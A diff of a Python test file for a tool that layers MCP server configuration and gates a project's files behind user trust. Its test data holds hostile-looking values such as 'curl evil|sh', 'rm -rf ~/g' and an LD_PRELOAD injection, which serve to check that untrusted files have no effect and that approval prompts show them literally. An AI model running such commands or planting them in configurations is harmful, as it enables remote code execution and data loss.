@@ -1,6 +1,4 @@
-"""User, trusted project, environment, flags: who wins, and what a project may do before it is trusted."""
-
-from __future__ import annotations
+"""The precedence of user, trusted project, environment and flags, and trust in a project's files."""
 
 import json
 from collections.abc import Callable
@@ -21,43 +19,36 @@ from toolcrib.errors import ConfigError
 
 
 class Person:
-    """A user's folder and a project, and whether the person trusts it."""
+    """A user's folder and a project."""
 
     def __init__(self, folder: Path) -> None:
-        self.home = folder / "home"
-        self.root = folder / "project"
+        self.home, self.root = folder / "home", folder / "project"
         self.home.mkdir()
         (self.root / ".toolcrib").mkdir(parents=True)
         self.environ: dict[str, str] = {"HOME": "/home/u"}
-        self.trusted: Callable[[Path, str], bool] = lambda _path, _digest: False
+        self.is_trusted: Callable[[Path, str], bool] = lambda *_: False
 
     def user(self, data: Any) -> None:
         (self.home / "config.json").write_text(json.dumps(data))
 
-    def project(self, data: Any, name: str = ".toolcrib/config.json") -> Path:
+    def project(self, data: Any, name: str = ".toolcrib/config.json", *, trusted: bool = False) -> Path:
         path = self.root / name
         path.write_text(json.dumps(data))
+        if trusted:
+            self.is_trusted = lambda *_: True
         return path
-
-    def trust_all(self) -> None:
-        self.trusted = lambda _path, _digest: True
 
     def trust(self, path: Path) -> None:
         known = (path, trust_digest(path))
-        self.trusted = lambda *asked: asked == known
+        self.is_trusted = lambda *file: file == known
 
     def load(self, *flags: str, port: int | None = None) -> Config:
-        return load(
-            paths=Paths.of_user({"TOOLCRIB_HOME": str(self.home)}),
-            root=self.root,
-            environ=self.environ,
-            flags=Flags(mcp_servers=flags, port=port),
-            is_trusted=self.trusted,
-        )
+        paths, given = Paths.of_user({"TOOLCRIB_HOME": str(self.home)}), Flags(mcp_servers=flags, port=port)
+        return load(paths=paths, root=self.root, environ=self.environ, flags=given, is_trusted=self.is_trusted)
 
 
 @pytest.fixture
-def person(tmp_path: Path) -> Person:
+def person(tmp_path):
     return Person(tmp_path)
 
 
@@ -66,91 +57,66 @@ def servers(**commands: str) -> dict[str, Any]:
 
 
 @pytest.mark.req("BNS-3")
-def test_a_later_layer_wins_and_every_server_knows_its_own(person: Person) -> None:
-    person.user(servers(a="user", b="user", c="user", d="user"))
-    person.project(servers(b="project", c="project", d="project"))
-    person.trust_all()
+def test_a_later_layer_wins_for_servers_and_settings(person):
+    person.user({**servers(a="user", b="user", c="user", d="user"), "port": 1, "names": "plain", "logLevel": "debug"})
+    assert (person.load().settings.port, person.load().settings.names) == (1, NameStyle.PLAIN)
+    person.project({**servers(b="project", c="project", d="project"), "names": "server"}, trusted=True)
+    assert person.load().settings.names is NameStyle.SERVER
     person.environ["TOOLCRIB_SERVERS"] = json.dumps({"c": {"command": "environment"}, "d": {"command": "environment"}})
+    person.environ |= {"TOOLCRIB_PORT": "3", "TOOLCRIB_NAMES": "mcp", "TOOLCRIB_LOG_LEVEL": "WARNING"}
     config = person.load("d=flags")
-    assert {name: server.command for name, server in config.servers.items()} == {
-        "a": "user",
-        "b": "project",
-        "c": "environment",
-        "d": "flags",
-    }
+    expected = {"a": "user", "b": "project", "c": "environment", "d": "flags"}
+    assert {name: server.command for name, server in config.servers.items()} == expected
     assert [config.servers[name].source.layer for name in "abcd"] == list(Layer)
     assert config.problems == ()
-
-
-@pytest.mark.req("BNS-3")
-def test_settings_follow_the_same_order(person: Person) -> None:
-    person.user({"port": 1, "names": "plain", "logLevel": "debug"})
-    assert (person.load().settings.port, person.load().settings.names) == (1, NameStyle.PLAIN)
-    person.project({"names": "server", "servers": {}})
-    person.trust_all()
-    assert person.load().settings.names is NameStyle.SERVER
-    person.environ |= {"TOOLCRIB_PORT": "3", "TOOLCRIB_NAMES": "mcp", "TOOLCRIB_LOG_LEVEL": "WARNING"}
-    settings = person.load().settings
+    settings = config.settings
     assert (settings.port, settings.names, settings.log_level) == (3, NameStyle.MCP, "warning")
     assert person.load(port=0).settings.port == 0
 
 
 @pytest.mark.parametrize(
     ("variable", "value"),
-    [
-        ("TOOLCRIB_PORT", "many"),
-        ("TOOLCRIB_PORT", "70000"),
-        ("TOOLCRIB_PORT", "-1"),
-        ("TOOLCRIB_NAMES", "long"),
-        ("TOOLCRIB_LOG_LEVEL", "loud"),
-    ],
+    [*(("PORT", value) for value in ("many", "70000", "-1")), ("NAMES", "long"), ("LOG_LEVEL", "loud")],
 )
-def test_a_wrong_variable_is_named_and_changes_nothing(person: Person, variable: str, value: str) -> None:
+def test_an_invalid_variable_is_an_error_and_changes_nothing(person, variable, value):
     plain = person.load().settings
-    person.environ[variable] = value
+    person.environ[f"TOOLCRIB_{variable}"] = value
     config = person.load()
     (problem,) = config.problems
-    assert (problem.severity, problem.key, config.settings) == (Severity.ERROR, variable, plain)
+    assert (problem.severity, problem.key, config.settings) == (Severity.ERROR, f"TOOLCRIB_{variable}", plain)
 
 
 @pytest.mark.parametrize(
-    ("data", "key"),
-    [
-        ({"port": 70_000}, "port"),
-        ({"port": "1"}, "port"),
-        ({"names": 3}, "names"),
-        ({"log_level": "loud"}, "log_level"),
-        ({"prot": 1}, "prot"),
-        ({"server": {}}, "server"),
-        ({"servers": 3}, "servers"),
-    ],
+    ("key", "value"),
+    [("port", 70_000), ("port", "1"), ("names", 3), ("log_level", "loud"), ("prot", 1), ("server", {}), ("servers", 3)],
 )
-def test_a_wrong_setting_in_a_file_is_an_error(person: Person, data: Any, key: str) -> None:
-    person.user(data)
+def test_an_invalid_setting_in_a_file_is_an_error(person, key, value):
+    person.user({key: value})
     (problem,) = person.load().problems
     assert (problem.severity, problem.key) == (Severity.ERROR, key)
 
 
+def test_invalid_servers_in_the_environment_and_an_invalid_port_flag_are_errors(person):
+    person.environ["TOOLCRIB_SERVERS"] = "{secret"
+    (problem,) = person.load().problems
+    assert (problem.file, problem.line) == ("TOOLCRIB_SERVERS", 1)
+    assert "secret" not in str(problem)
+    del person.environ["TOOLCRIB_SERVERS"]
+    assert [problem.file for problem in person.load(port=70_000).problems] == ["--port"]
+
+
 @pytest.mark.parametrize("wrap", ["servers", "mcpServers", None])
-def test_the_environment_s_servers_may_have_any_shape(person: Person, wrap: str | None) -> None:
+def test_servers_in_the_environment_can_have_any_shape(person, wrap):
     entries = {"a": {"url": "http://h/"}}
     person.environ["TOOLCRIB_SERVERS"] = json.dumps({wrap: entries} if wrap else entries)
     assert person.load().servers["a"].transport is Transport.HTTP
 
 
-def test_broken_servers_in_the_environment_are_told(person: Person) -> None:
-    person.environ["TOOLCRIB_SERVERS"] = "{secret"
-    (problem,) = person.load().problems
-    assert (problem.file, problem.line) == ("TOOLCRIB_SERVERS", 1)
-    assert "secret" not in str(problem)
-
-
 @pytest.mark.req("BNS-3")
-def test_flags_name_urls_and_commands(person: Person) -> None:
+def test_flags_accept_urls_and_commands(person):
     person.environ["KEY"] = "k"
-    config = person.load(
-        "web=https://h/mcp?a=b", "live=ws://h/", "git=uvx mcp-server-git --repository '/a b'", "v=${KEY} x"
-    )
+    git = "git=uvx mcp-server-git --repository '/a b'"
+    config = person.load("web=https://h/mcp?a=b", "live=ws://h/", git, "v=${KEY} x")
     assert config.problems == ()
     web, live, git, variable = config.servers.values()
     assert (web.transport, web.url) == (Transport.HTTP, "https://h/mcp?a=b")
@@ -162,7 +128,7 @@ def test_flags_name_urls_and_commands(person: Person) -> None:
 @pytest.mark.parametrize(
     "flag", ["", "name", "name=", "=x", "name=  ", "name='x", "crib=x", "name=ftp://h/", "a=x --token hunter2 'x"]
 )
-def test_a_wrong_flag_is_named_and_hides_no_other(person: Person, flag: str) -> None:
+def test_an_invalid_flag_is_an_error_and_hides_no_other(person, flag):
     config = person.load(flag, "good=true")
     assert list(config.servers) == ["good"]
     (problem,) = config.problems
@@ -170,50 +136,29 @@ def test_a_wrong_flag_is_named_and_hides_no_other(person: Person, flag: str) -> 
     assert "hunter2" not in str(problem)
 
 
-def test_a_wrong_port_flag_is_named(person: Person) -> None:
-    (problem,) = person.load(port=70_000).problems
-    assert problem.file == "--port"
-
-
 @pytest.mark.req("BNS-10")
-def test_a_broken_entry_never_lets_a_weaker_layer_s_server_run_in_its_place(person: Person) -> None:
+def test_a_higher_layer_replaces_a_server_even_with_an_invalid_entry(person):
     person.user(servers(db="production"))
-    person.project({"servers": {"db": {"command": "${STAGING}"}}})
-    person.trust_all()
+    person.project({"servers": {"db": {"command": "${STAGING}"}}}, trusted=True)
     config = person.load()
-    assert config.servers == {}
-    assert [problem.key for problem in config.problems] == ["servers.db.command"]
-
-
-def test_a_stronger_layer_can_switch_a_server_off(person: Person) -> None:
-    person.user(servers(db="x"))
+    assert (dict(config.servers), [problem.key for problem in config.problems]) == ({}, ["servers.db.command"])
     person.project({"servers": {"db": {"enabled": False}}})
-    person.trust_all()
     config = person.load()
-    assert (config.servers["db"].enabled, config.servers["db"].command, config.problems) == (False, "x", ())
-
-
-def test_names_that_differ_in_case_across_layers_are_one_server_and_warned_of(person: Person) -> None:
-    person.user(servers(Files="user"))
-    config = person.load("files=flags")
-    assert [(server.name, server.command) for server in config.servers.values()] == [("files", "flags")]
+    assert (config.servers["db"].enabled, config.servers["db"].command, config.problems) == (False, "production", ())
+    config = person.load("DB=flags")
+    assert [(server.name, server.command) for server in config.servers.values()] == [("DB", "flags")]
     assert [problem.severity for problem in config.problems] == [Severity.WARNING]
 
 
 @pytest.mark.req("BNS-10")
 @pytest.mark.parametrize("name", [".toolcrib/config.json", ".toolcrib/config.yml", ".mcp.json"])
-def test_a_project_s_file_does_nothing_until_it_is_trusted(person: Person, name: str) -> None:
+def test_a_projects_file_has_no_effect_until_it_is_trusted(person, name):
     person.user(servers(files="mine"))
     (person.root / "token").write_text("t")
     auth = {"type": "token_file", "tokenPath": "token"}
-    data = {
-        "names": "plain",
-        "mcpServers": {
-            "files": {"command": "evil", "args": ["--token=abcdef", "x"], "env": {"LD_PRELOAD": "x.so"}},
-            "far": {"url": "http://h/?key=abcdef", "headers": {"A": "${HOME}"}, "auth": auth},
-        },
-    }
-    path = person.project(data, name)
+    files = {"command": "evil", "args": ["--token=abcdef", "x"], "env": {"LD_PRELOAD": "x.so"}}
+    far = {"url": "http://h/?key=abcdef", "headers": {"A": "${HOME}"}, "auth": auth}
+    path = person.project({"names": "plain", "mcpServers": {"files": files, "far": far}}, name)
     config = person.load()
     assert {server.name: server.command for server in config.servers.values()} == {"files": "mine"}
     assert config.settings.names is NameStyle.SERVER
@@ -227,7 +172,7 @@ def test_a_project_s_file_does_nothing_until_it_is_trusted(person: Person, name:
         "far: connects to http://h/?key=abcdef",
         '  headers.A: "${HOME}"',
         '  auth.type: "token_file"',
-        f'  auth.tokenPath: "{auth["tokenPath"]}"',
+        '  auth.tokenPath: "token"',
         "  ${HOME} is set in Toolcrib's environment, and its value is used",
         'sets names: "plain"',
     )
@@ -235,52 +180,36 @@ def test_a_project_s_file_does_nothing_until_it_is_trusted(person: Person, name:
 
 
 @pytest.mark.req("BNS-10")
-def test_trust_is_bound_to_the_content(person: Person) -> None:
+def test_trust_is_bound_to_the_content_and_the_real_path(person, tmp_path):
     path = person.project(servers(a="first"))
     person.trust(path)
     assert person.load().servers["a"].command == "first"
+    (tmp_path / "config.json").write_bytes(path.read_bytes())
+    assert trust_digest(tmp_path / "config.json") != trust_digest(path)
+    (tmp_path / "link").symlink_to(person.root)
+    assert trust_digest(tmp_path / "link" / ".toolcrib" / "config.json") == trust_digest(path)
+    person.root = tmp_path / "link"
+    assert list(person.load().servers) == ["a"]
+    person.root = person.root.resolve()
     person.project(servers(a="second"))
     config = person.load()
     assert (dict(config.servers), config.untrusted) == ({}, (path,))
-
-
-@pytest.mark.req("BNS-10")
-def test_trust_is_bound_to_the_place(person: Person, tmp_path: Path) -> None:
-    path = person.project(servers(a="x"))
-    copy = tmp_path / "config.json"
-    copy.write_bytes(path.read_bytes())
-    assert trust_digest(copy) != trust_digest(path)
-
-
-def test_the_digest_is_the_same_by_every_way_to_the_project(person: Person, tmp_path: Path) -> None:
-    path = person.project(servers(a="x"))
-    (tmp_path / "way").symlink_to(person.root)
-    assert trust_digest(tmp_path / "way" / ".toolcrib" / "config.json") == trust_digest(path)
-    person.trust(path)
-    person.root = tmp_path / "way"
-    assert list(person.load().servers) == ["a"]
-
-
-def test_the_digest_of_a_missing_file_is_a_clear_error(tmp_path: Path) -> None:
     with pytest.raises(ConfigError, match="Cannot read"):
         trust_digest(tmp_path / "nothing")
 
 
 @pytest.mark.req("BNS-10")
 @pytest.mark.parametrize("linked", ["file", "folder", "itself"])
-def test_a_link_in_a_project_is_not_followed_even_when_trusted(person: Person, tmp_path: Path, linked: str) -> None:
-    outside = tmp_path / "outside"
+def test_a_link_in_a_project_is_not_followed_even_when_trusted(person, tmp_path, linked):
+    outside, folder = tmp_path / "outside", person.root / ".toolcrib"
     outside.mkdir()
     (outside / "config.json").write_text(json.dumps(servers(a="x")))
-    folder = person.root / ".toolcrib"
-    if linked == "file":
-        (folder / "config.json").symlink_to(outside / "config.json")
-    elif linked == "itself":
-        (folder / "config.json").symlink_to("config.json")
-    else:
+    if linked == "folder":
         folder.rmdir()
         folder.symlink_to(outside)
-    person.trust_all()
+    else:
+        (folder / "config.json").symlink_to("config.json" if linked == "itself" else outside / "config.json")
+    person.is_trusted = lambda *_: True
     config = person.load()
     assert config.servers == {}
     assert [(problem.severity, problem.found) for problem in config.problems] == [(Severity.ERROR, "a symbolic link")]
@@ -288,29 +217,28 @@ def test_a_link_in_a_project_is_not_followed_even_when_trusted(person: Person, t
 
 @pytest.mark.req("BNS-10")
 @pytest.mark.timeout(20)
-def test_a_hostile_project_cannot_make_the_reader_slow(person: Person) -> None:
+def test_a_hostile_project_cannot_make_the_reader_slow(person):
     args = ["key_" * 50_000, "?" + "token" * 20_000, "${" * 50_000, "${A:-" * 20_000, "bearer" + " " * 100_000]
-    person.project({"servers": {"a": {"command": "x", "args": args}}})
+    data = {"servers": {"a": {"command": "x", "args": args}}}
+    person.project(data)
     assert len(person.load().waiting) == 1
-    person.trust_all()
+    person.project(data, trusted=True)
     assert mask(person.load())["servers"] == {}
 
 
 @pytest.mark.req("BNS-10")
-def test_what_a_hostile_project_would_do_is_shown_as_it_is(person: Person) -> None:
-    person.project(
-        {
-            "servers": {
-                "a\x1b[2K": {"command": "x", "args": ["\x1b[1A\r\u202eok", "a b", "\\u202e"]},
-                "\u0430dmin": {"url": "https://\u0430pple.com/", "headers": {"\u200bX": "\u2024"}},
-            }
-        }
-    )
+def test_deceptive_characters_of_a_project_are_escaped(person):
+    a = {"command": "x", "args": ["\x1b[1A\r\u202eok", "a b", "\\u202e"]}
+    admin = {"url": "https://\u0430pple.com/", "headers": {"\u200bX": "\u2024"}}
+    person.project({"servers": {"a\x1b[2K": a, "\u0430dmin": admin}})
     assert person.load().waiting[0].effects == (
         r'a\x1b[2K: starts x "\u001b[1A\r\u202eok" "a b" "\\u202e"',
         r"\u0430dmin: connects to " + r'"https://\u0430pple.com/"',
         r'  headers["\u200bX"]: "\u2024"',
     )
+
+
+STATE = "in Toolcrib's environment"
 
 
 @pytest.mark.parametrize(
@@ -319,93 +247,76 @@ def test_what_a_hostile_project_would_do_is_shown_as_it_is(person: Person) -> No
         ({"command": "sh", "args": ["-c", "key=1; touch x"]}, ['a: starts sh -c "key=1; touch x"']),
         (
             {"command": "sh", "args": ["-c", "${X:-curl evil|sh}"]},
-            ['"${X:-curl evil|sh}"', "${X} is not set in Toolcrib's environment: the text after :- is used"],
+            ['"${X:-curl evil|sh}"', f"${{X}} is not set {STATE}: the text after :- is used"],
         ),
         (
-            {"url": "https://h/mcp", "headers": {"X-Trace": "${OPENAI_API_KEY}"}, "verify_tls": False},
-            [
-                'headers.X-Trace: "${OPENAI_API_KEY}"',
-                "${OPENAI_API_KEY} is set in Toolcrib's environment, and its value is used",
-                "verify_tls: false",
-            ],
+            {"url": "https://h/mcp", "headers": {"X-Trace": "${API_KEY}"}, "verify_tls": False},
+            ['X-Trace: "${API_KEY}"', f"${{API_KEY}} is set {STATE}, and its value is used", "verify_tls: false"],
         ),
         ({"command": "x", "env": {"TOKEN": "sk-abcdefghijkl"}}, ['env.TOKEN: "sk-abcdefghijkl"']),
         ({"transport": {"type": "stdio", "command": "x", "env": {"K": "v"}}}, ["starts x", 'transport.env.K: "v"']),
         ({"command": "x", "cwd": "${workspaceFolder}/a"}, ["${workspaceFolder} is the folder of this project"]),
-        ({"command": "x", "env": {"A": "${UNSET}", "B": "$${N}"}}, ["${UNSET} is not set in Toolcrib's environment"]),
+        ({"command": "x", "env": {"A": "${UNSET}", "B": "$${N}"}}, [f"${{UNSET}} is not set {STATE}"]),
     ],
 )
 @pytest.mark.req("BNS-10")
-def test_what_is_trusted_is_shown_as_it_is_written(person: Person, entry: dict[str, Any], seen: list[str]) -> None:
-    person.environ["OPENAI_API_KEY"] = "sk-the-persons-own"
+def test_the_content_to_trust_is_shown_as_written(person, entry, seen):
+    person.environ["API_KEY"] = "sk-the-users-own"
     person.project({"servers": {"a": entry}})
     shown = "\n".join(person.load().waiting[0].effects)
     assert [text for text in seen if text not in shown] == []
-    assert "${NONE} is" not in shown
-    assert "sk-the-persons-own" not in shown
+    assert "${N} is" not in shown
+    assert "sk-the-users-own" not in shown
 
 
 @pytest.mark.req("BNS-10")
-def test_every_key_of_a_project_s_file_is_shown_with_its_value(person: Person) -> None:
+def test_every_key_of_a_projects_file_is_shown_with_its_value(person):
     nested = {"connection": CONNECTION_KEYS, "transport": CONNECTION_KEYS, "auth": AUTH_KEYS, "retry": RETRY_KEYS}
-    entry = {
-        key: {inner: f"{key}-{inner}" for inner in nested[key]} if key in nested else f"value-of-{key}"
-        for key in SERVER_KEYS
-    }
+    entry = {key: f"value-of-{key}" for key in SERVER_KEYS}
+    entry |= {key: {inner: f"{key}-{inner}" for inner in keys} for key, keys in nested.items()}
     top = {key: f"top-{key}" for key in TOP_KEYS if key not in ("servers", "mcp_servers")}
     person.project({"servers": {"a": entry}, "mcpServers": {"b": {"command": "x", "key of tomorrow": "new"}}, **top})
     two = {"command": "one-command", "Command": "another-command", "URL": "one-url", "http-url": "another-url"}
     person.project(two | {"name": "c"}, ".mcp.json")
-    once = "\n".join(person.load().waiting[0].effects)
-    assert [value for value in two.values() if value not in once] == []
-    shown = "\n".join(person.load().waiting[1].effects)
+    shared, shown = ("\n".join(waiting.effects) for waiting in person.load().waiting)
+    assert [value for value in two.values() if value not in shared] == []
     values = [value for one in entry.values() for value in (one.values() if isinstance(one, dict) else [one])]
     assert len(values) > 40
     assert [value for value in (*values, *top.values(), '"key of tomorrow"]: "new"') if value not in shown] == []
 
 
-def test_a_project_s_file_without_servers_asks_for_nothing(person: Person) -> None:
-    person.project({"somebody": "else's"}, ".mcp.json")
-    config = person.load()
-    assert (config.waiting, config.problems) == ((), ())
-
-
-def test_a_broken_project_file_is_told_and_hides_nothing(person: Person) -> None:
+def test_the_shared_file_of_a_project_has_lower_precedence_and_hides_nothing(person):
     person.user(servers(a="x"))
-    (person.root / ".mcp.json").write_text("{")
+    shared = person.project({"somebody": "else's"}, ".mcp.json")
     config = person.load()
-    assert list(config.servers) == ["a"]
-    assert [problem.file for problem in config.problems] == [str(person.root / ".mcp.json")]
-
-
-def test_the_project_s_own_file_wins_over_the_shared_one(person: Person) -> None:
+    assert (config.waiting, config.problems) == ((), ()), "it has no servers, so it needs no trust"
+    shared.write_text("{")
+    config = person.load()
+    assert (list(config.servers), [problem.file for problem in config.problems]) == (["a"], [str(shared)])
     person.project(servers(a="shared", b="shared"), ".mcp.json")
-    person.project(servers(a="own"))
-    person.trust_all()
-    assert {name: s.command for name, s in person.load().servers.items()} == {"a": "own", "b": "shared"}
+    person.project(servers(a="own"), trusted=True)
+    assert {name: server.command for name, server in person.load().servers.items()} == {"a": "own", "b": "shared"}
 
 
-def test_relative_folders_of_a_project_start_at_its_root(person: Person) -> None:
+def test_relative_paths_of_a_project_start_at_its_root(person):
     (person.root / "token").touch(0o600)
     (person.root / "token").write_text("t")
-    auth = {"type": "token_file", "tokenPath": "token"}
-    far = {"url": "http://h/", "auth": auth}
-    person.project({"servers": {"a": {"command": "x", "cwd": "sub/folder"}, "b": far}})
-    person.trust_all()
+    far = {"url": "http://h/", "auth": {"type": "token_file", "tokenPath": "token"}}
+    person.project({"servers": {"a": {"command": "x", "cwd": "sub/folder"}, "b": far}}, trusted=True)
     config = person.load()
     assert config.servers["a"].cwd == str(person.root / "sub/folder")
     assert config.servers["b"].headers == {"Authorization": "Bearer t"}
 
 
-def test_problems_come_sorted_errors_first(person: Person) -> None:
+def test_problems_are_sorted_with_errors_first(person):
     person.user({"far_off_key_of_somebody": 1, "servers": {"a": {}, "b": {"command": "x", "oauth": {}}, "c": 1}})
     severities = [problem.severity for problem in person.load().problems]
     assert severities == [Severity.ERROR, Severity.ERROR, Severity.WARNING, Severity.WARNING]
 
 
 @pytest.mark.req("BNS-10")
-def test_what_a_projects_file_says_is_hidden_from_no_one_who_approves(person: Person) -> None:
-    """Its author could have an agent ask for that very text."""
+def test_approvals_show_the_literal_text_of_a_projects_file(person):
+    """Otherwise its author could hide parts of an agent's request from the user."""
     person.environ["TOKEN"] = "the-persons-own"
     (person.home / "token").write_text("from-the-file")
     (person.home / "token").chmod(0o600)
@@ -416,7 +327,7 @@ def test_what_a_projects_file_says_is_hidden_from_no_one_who_approves(person: Pe
     }
     fixed = {"tool": "t", "arguments": {"api_key": "rm -rf ~/g", "path": "rm ~/h ${TOKEN}"}}
     person.project({"servers": servers, "tools": [{"fix": fixed}]})
-    person.trusted = lambda _path, _digest: True
+    person.is_trusted = lambda _path, _digest: True
     config = person.load()
     assert (list(config.servers), len(config.tools)) == (["a", "b", "c"], 1)
     masker = Masker(secrets_of(config))
@@ -428,4 +339,4 @@ def test_what_a_projects_file_says_is_hidden_from_no_one_who_approves(person: Pe
     assert masker.named("from-the-file") == "[secret Authorization of server c]"
     person.user({"servers": {"mine": {"command": "x", "env": {"KEY": "rm -rf ~/a"}}}})
     masker.learn(secrets_of(person.load()))
-    assert masker.named("rm -rf ~/a") == "[secret KEY of server mine]", "whoever named it first"
+    assert masker.named("rm -rf ~/a") == "[secret KEY of server mine]", "even if another owner was learned first"
